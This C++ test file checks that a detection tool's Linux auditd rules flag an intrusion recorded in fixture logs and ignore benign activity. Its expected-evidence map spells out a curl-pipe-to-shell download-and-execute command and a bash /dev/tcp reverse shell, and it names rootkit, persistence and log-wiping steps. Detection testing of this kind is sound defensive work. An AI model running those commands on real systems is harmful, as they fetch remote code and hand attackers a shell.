// The vm plugin's Linux pack (plugins/vm/rules/linux.yaml) over raw audit.log fixtures: one
// with an intrusion (fixtures/attack.log) and one with a day's ordinary work that looks like
// it (fixtures/benign.log), through the real reader, rule loader and engine, and through
// `bulwark detect --source auditd:...`.
#include <catch2/catch.hpp>
#include <map>
#include <nlohmann/json.hpp>
#include <set>

#include "kernel/detect/detect_test_support.h"
#include "support/test_support.h"

using namespace bulwark::detect;
namespace fs = std::filesystem;

namespace {

fs::path fixture(const std::string& name) {
  return bulwark::test::sourceDir() / "tests" / "kernel" / "detect" / "auditd" / "fixtures" / name;
}

std::string hex(const std::string& text) {
  static const char* kDigits = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : text) {
    out += kDigits[c >> 4];
    out += kDigits[c & 15];
  }
  return out;
}

std::string packText() {
  return bulwark::test::readFile(bulwark::test::sourceDir() / "plugins" / "vm" / "rules" /
                                 "linux.yaml");
}

std::vector<Alert> packAlerts(KeyTable& keys, const std::string& file) {
  auto read = bulwark::test::readPath(keys, "auditd", fixture(file).string());
  INFO(file);
  REQUIRE(read.stats.failed == 0);
  REQUIRE(read.stats.lines > 20);
  return bulwark::test::runRules(keys, packText(), read.events);
}

}  // namespace

TEST_CASE("the Linux pack's auditd rules fire on an intrusion in a raw audit.log",
          "[auditd][vmrules]") {
  KeyTable keys;
  std::vector<Alert> alerts = packAlerts(keys, "attack.log");
  // Each step of the intrusion, and a text its evidence must hold (from that step's records).
  const std::map<std::string, std::string> expected = {
      {"linux.ssh.root-login", "addr=203.0.113.7"},
      {"linux.ssh.authorized-keys-modified", "name=\"/root/.ssh/authorized_keys\""},
      // Evidence is the raw log, where these arguments are hex-encoded.
      {"linux.download-and-execute", hex("curl -fsSL http://198.51.100.23/x.sh | sh")},
      {"linux.reverse-shell", hex("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")},
      {"linux.history.cleared", "name=\"/root/.bash_history\""},
      {"linux.persistence.cron", "name=\"/etc/cron.d/updater\""},
      {"linux.logs.cleared", "name=\"/var/log/auth.log\""},
      {"linux.kernel-module.loaded", "diamorphine"},
      {"linux.auditd.disabled", "audit_enabled=0"},
  };
  std::set<std::string> fired;
  for (const auto& a : alerts) {
    fired.insert(a.ruleId);
    auto want = expected.find(a.ruleId);
    if (want == expected.end()) continue;
    INFO(a.ruleId);
    std::string evidence;
    for (const auto& line : a.evidence)
      evidence += line + "\n";
    CHECK_THAT(evidence, Catch::Contains(want->second));
    CHECK_THAT(evidence, Catch::Contains("attack.log:"));
  }
  std::set<std::string> wanted;
  for (const auto& [id, text] : expected)
    wanted.insert(id);
  CHECK(fired == wanted);

  // auditing switched off, the daemon stopped by systemctl, systemd's SERVICE_STOP and the
  // daemon's own DAEMON_END: four events, one alert on the host.
  for (const auto& a : alerts) {
    if (a.ruleId == "linux.auditd.disabled") CHECK(a.eventCount == 4);
    if (a.ruleId == "linux.kernel-module.loaded") CHECK(a.eventCount == 2);  // insmod + module
    if (a.ruleId == "linux.ssh.root-login") {
      CHECK(bulwark::test::entityValues(a, "user") == std::vector<std::string>{"root"});
      CHECK(bulwark::test::entityValues(a, "ip") == std::vector<std::string>{"203.0.113.7"});
    }
  }
}

TEST_CASE("the Linux pack stays quiet on ordinary auditd records that look like attacks",
          "[auditd][vmrules]") {
  KeyTable keys;
  std::vector<Alert> alerts = packAlerts(keys, "benign.log");
  for (const auto& a : alerts) {
    INFO(a.ruleId << ": " << (a.evidence.empty() ? "" : a.evidence[0]));
    CHECK(a.ruleId.rfind("linux.", 0) != 0);
  }
}

TEST_CASE("bulwark detect reads a raw audit.log with --source auditd:", "[auditd][cli]") {
  bulwark::test::TempDir dir;
  fs::path log = dir / "audit.log";
  bulwark::test::writeFile(
      log, bulwark::test::readFile(fixture("attack.log")) + "type=SYSCALL msg=audit(garbage\n");
  fs::path pack = bulwark::test::sourceDir() / "plugins" / "vm" / "rules" / "linux.yaml";
  auto r =
      bulwark::test::runBulwark({"detect", "--source", "auditd:" + log.string(), "--rules",
                                 pack.string(), "--config", "", "--format", "json", "--no-store"});
  INFO(r.err);
  REQUIRE(r.exitCode == 0);
  CHECK_THAT(r.err, Catch::Contains(log.string() + ":65: skipped: bad audit("));
  std::set<std::string> rules;
  for (const auto& a : nlohmann::json::parse(r.out))
    rules.insert(a.at("rule").get<std::string>());
  CHECK(rules.count("linux.auditd.disabled") == 1);
  CHECK(rules.count("linux.ssh.authorized-keys-modified") == 1);
}
